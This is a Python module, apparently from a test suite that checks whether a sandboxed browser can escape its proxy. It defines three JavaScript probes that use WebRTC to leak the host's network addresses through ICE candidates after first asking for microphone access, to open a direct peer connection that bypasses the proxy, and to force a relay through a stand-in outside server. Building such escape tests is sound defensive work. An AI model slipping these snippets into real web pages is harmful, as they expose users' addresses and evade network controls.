"""Ways to others that no proxy carries: calls from browser to browser, and what finds them a way.

Browsers tell a page more of the post's addresses once it may use the microphone: it asks for that first.
"""

from __future__ import annotations

from typing import Any

from proof.escapes.pages.page_technique import PageTechnique
from proof.escapes.technique import Way

DIRECT = "page-calls-directly"
"""Weakness: a browser that lets calls find their own way."""


def _wire(name: str, title: str, js: str, **more: Any) -> PageTechnique:
    return PageTechnique(
        id=f"PG-WIRE-{name}",
        title=title,
        tries="reach another machine without the proxy, or tell it where the post is",
        family="page: other wires",
        js=js,
        shows=(Way.LEFT, Way.TOLD),
        weakness=DIRECT,
        **more,
    )


TECHNIQUES = (
    _wire("ADDRESS", "a call that asks which addresses the post has", """
        await soon(() => navigator.mediaDevices.getUserMedia({audio: true}), 900);
        const call = new RTCPeerConnection({iceServers: [{urls: 'stun:dehors.exercice:3478'}]});
        call.onicecandidate = (event) => { if (event.candidate?.candidate) won('an address: ' + event.candidate.candidate); };
        call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); await sleep(900);""", short=True),
    _wire("CALL", "a call that no proxy carries", """
        await soon(() => navigator.mediaDevices.getUserMedia({audio: true}), 900);
        const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
        for (const [from, to] of [[one, other], [other, one]]) from.onicecandidate = (event) => event.candidate && to.addIceCandidate(event.candidate);
        one.createDataChannel('x').onopen = () => won('a call without the proxy');
        await one.setLocalDescription(await one.createOffer()); await other.setRemoteDescription(one.localDescription);
        await other.setLocalDescription(await other.createAnswer()); await one.setRemoteDescription(other.localDescription);
        await sleep(1500);"""),
    _wire("RELAY", "a call through a relay outside", """
        const servers = ['turns:dehors.exercice:443?transport=tcp', 'turn:dehors.exercice:443?transport=tcp'];
        const call = new RTCPeerConnection({iceServers: servers.map((urls) => ({urls, username: 'x', credential: 'x'})), iceTransportPolicy: 'relay'});
        call.createDataChannel('x'); await call.setLocalDescription(await call.createOffer()); await sleep(1500);"""),
)  # fmt: skip
